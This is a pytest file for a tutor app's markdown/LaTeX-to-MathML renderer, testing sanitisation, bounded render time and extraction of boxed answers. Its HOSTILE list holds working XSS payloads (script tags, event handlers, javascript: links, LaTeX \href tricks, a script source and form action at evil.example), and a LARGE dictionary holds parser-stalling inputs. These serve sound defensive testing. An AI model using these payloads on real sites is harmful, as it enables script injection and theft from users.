"""The tutor page's renderer (`mllm_cpu.render`): markdown and LaTeX to MathML, and nothing hostile survives.

The hostile corpus is what a model (or a student's pasted text) could write to run script in the page
or to stall the server: script tags, event handlers, `javascript:` links, raw HTML and MathML tricks,
broken LaTeX, and inputs that are deep or long enough to make a parser recurse or go quadratic.
"""

from __future__ import annotations

import html
import html.parser
import re
import time

import pytest

from mllm_cpu.answers import extract_boxed
from mllm_cpu.render import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    MAX_MATH_CHARS,
    MAX_RENDER_CHARS,
    RENDER_SECONDS,
    final_answer,
    render_html,
    render_reply,
)

HOSTILE = [
    "<script>window.__pwned = 1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="window.__pwned = 1">',
    "<svg onload=alert(1)><circle r=10 /></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1) )",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '![x](x" onerror="alert(1))',
    "![x](javascript:alert(1))",
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0">cover</div>',
    "<form action=//evil.example><input name=k></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "$\\text{<script>window.__pwned = 1</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "\\(\\href{javascript:alert(1)}{click}\\)",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\(\\style{background:url(javascript:alert(1))}{x}\\)",
    "\\(\\color{red}{x} \\class{evil}{y}\\)",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<!-- <script>alert(1)</script> -->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<<script>script>alert(1)<</script>/script>",
    "\\begin{aligned} <script>alert(1)</script> \\end{aligned}",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
]

BROKEN_LATEX = [
    "\\frac{",
    "$",
    "$$",
    "\\(",
    "\\[",
    "$\\frac{1}{$",
    "\\(\\frac{1}{2\\)",
    "\\[\\begin{matrix} a & b \\]",
    "$\\left( x $",
    "\\boxed{",
    "\\boxed{\\frac{1}{}",
    "$x^$",
    "$_$",
    "$\\sqrt$",
    "$\\undefinedcommand{x}$",
    "$\\begin{array}$",
    "$\\end{aligned}$",
    "$}$",
    "$\\$",
]

LARGE = {
    "nested braces in math": "$" + "{" * 50_000 + "}" * 50_000 + "$",
    "nested braces in a box": "\\boxed" + "{" * 100_000,
    "nested fractions": "\\(" + "\\frac{1}{" * 10_000 + "\\)",
    "nested braces, no math": "{" * 100_000,
    "many dollars": "$a$ " * 50_000,
    "unclosed dollars": "$a " * 60_000,
    "unclosed parens": "\\(" * 100_000,
    "brackets": "[" * 200_000,
    "brackets on lines": ("[" * 79 + "\n") * 2_500,
    "emphasis": "*a _" * 50_000,
    "quotes": ">" * 100_000,
    "lists": "".join("  " * depth + "- x\n" for depth in range(2_000)),
    "table": "a|b\n-|-\n" + "x|y\n" * 40_000,
    "fences": "```\n" * 50_000,
}

ATTRIBUTES_ANYWHERE = {"class", "title"}


class _Collector(html.parser.HTMLParser):
    """Every tag and attribute (name, value) of some HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_harmless(markup: str) -> None:
    """Only allowed tags, each with only its allowed attributes, links only to http(s) or mailto."""
    collector = _Collector()
    collector.feed(markup)
    collector.close()
    for tag, attributes in collector.tags:
        assert tag in ALLOWED_TAGS, f"{tag} survived in {markup[:300]!r}"
        for name, value in attributes:
            assert not name.startswith("on"), markup[:300]
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, f"{tag} {name} in {markup[:300]!r}"
            assert "javascript:" not in (value or "").lower().replace(" ", ""), markup[:300]
            if name == "href":
                assert value is not None and value.startswith(("http:", "https:", "mailto:")), markup[:300]
    lowered = markup.lower()  # text is escaped: a tag's name after "<" is a tag
    for needle in ("<script", "<style", "<img", "<iframe", "<svg", "<form", "<object", "<base", "<meta"):
        assert needle not in lowered, f"{needle} in {markup[:300]!r}"


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives(text: str) -> None:
    for variant in (text, f"Some *text* and $x^2$ first.\n\n{text}\n\nthen \\(\\frac12\\)", f"- {text}", f"> {text}"):
        assert_harmless(render_html(variant))
        answer = final_answer(f"\\boxed{{{variant}}}")
        assert answer is None or "script" not in answer.lower()
        if answer is not None:
            assert_harmless(answer)


@pytest.mark.parametrize("text", BROKEN_LATEX)
def test_latex_that_is_not_valid_is_shown_as_text(text: str) -> None:
    markup = render_html(f"before {text} after")
    assert_harmless(markup)
    assert "before" in markup and "after" in markup
    shown = html.unescape(re.sub("<[^>]+>", "", markup))
    assert "<math" in markup or text.replace("\\$", "$") in shown  # what latex2mathml cannot read is shown as typed


@pytest.mark.parametrize("name", sorted(LARGE))
def test_large_and_deep_texts_render_in_bounded_time(name: str) -> None:
    text = LARGE[name]
    start = time.monotonic()
    markup = render_html(text)
    answer = final_answer(text)
    took = time.monotonic() - start
    assert took < RENDER_SECONDS + 1.5, f"{name} took {took:.2f} s"
    assert_harmless(markup)
    assert answer is None or "<math" in answer


def test_a_text_longer_than_the_limit_is_cut_there() -> None:
    text = "a" * (MAX_RENDER_CHARS + 100)
    assert render_html(text).count("a") <= MAX_RENDER_CHARS + 10


def test_math_in_every_delimiter_becomes_mathml() -> None:
    markup = render_html(
        "Inline \\(x^2\\) and $\\frac{1}{2}$, display \\[\\sqrt{2}\\] and $$a+b$$.\n\n"
        "$$\n\\int_0^1 x\\,dx\n$$\n\n"
        "\\begin{aligned}\na &= b + c \\\\\n  &= d\n\\end{aligned}\n\n"
        "So the answer is \\boxed{\\frac{3}{4}}."
    )
    assert_harmless(markup)
    assert markup.count("<math") == 7
    assert "<mfrac>" in markup and "<msqrt>" in markup and "<mtable" in markup
    assert '<mrow class="boxed">' in markup  # drawn by CSS: MathML Core has no menclose
    assert "\\(" not in markup and "$" not in markup


def test_code_and_prices_are_not_math() -> None:
    markup = render_html("It costs $5 and $10.\n\n`$x$` stays code.\n\n```python\nprint('$a$')  # \\(x\\)\n```")
    assert "<math" not in markup
    assert "$5 and $10" in markup and "<code>$x$</code>" in markup


def test_fenced_code_of_a_known_language_is_highlighted() -> None:
    markup = render_html("```python\ndef add(a, b):\n    return a + b\n```\n\n```cpp\nint main() { return 0; }\n```")
    assert '<span class="tok-k">def</span>' in markup and '<span class="tok-nf">add</span>' in markup
    assert '<code class="language-cpp">' in markup and 'class="tok-kt">int</span>' in markup


def test_a_fence_with_blank_lines_stays_one_block() -> None:
    markup = render_html("```\nfirst\n\n\nsecond\n```\n\nafter")
    assert markup.count("<pre>") == 1 and "first\n\n\nsecond" in markup


def test_the_final_answer_is_the_last_closed_box() -> None:
    assert final_answer("no box here") is None
    answer = final_answer("first \\boxed{1}, then \\boxed{\\frac{2}{3}} and \\boxed{4")
    assert answer is not None and "<mfrac>" in answer and 'display="block"' in answer
    assert final_answer("\\boxed{ }") is None  # no answer to grade, so none to show


LONG_ANSWER = "x" * (MAX_MATH_CHARS + 10)


@pytest.mark.parametrize(
    ("text", "graded"),
    [
        ("so \\fbox{12}", "12"),
        ("the answer is \\boxed 5.", "5"),
        ("\\boxed{3} then \\boxed{} and \\boxed{ }", "3"),
        ("\\boxed{1}" + " \\boxed{2" * 30, "1"),
        (f"\\boxed{{{LONG_ANSWER}}}", LONG_ANSWER),
    ],
)
def test_the_page_shows_the_answer_solve_grades(text: str, graded: str) -> None:
    assert extract_boxed(text) == graded
    answer = final_answer(text)
    assert answer is not None
    assert html.unescape(re.sub("<[^>]+>", "", answer)).strip() == graded
    assert render_reply("\\boxed{7}", "math")["answer"] is not None
    assert render_reply("\\boxed{7}", "python")["answer"] is None


def test_streaming_prefixes_never_break_the_page() -> None:
    reply = (
        "Let me think. We need $\\frac{a}{b}$ where \\(a = 3\\).\n\n$$\nx = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}\n$$\n\n"
        "```python\nprint(1)\n```\n\nFinal answer: \\boxed{\\frac{3}{4}}"
    )
    for end in range(0, len(reply) + 1, 3):
        assert_harmless(render_html(reply[:end]))
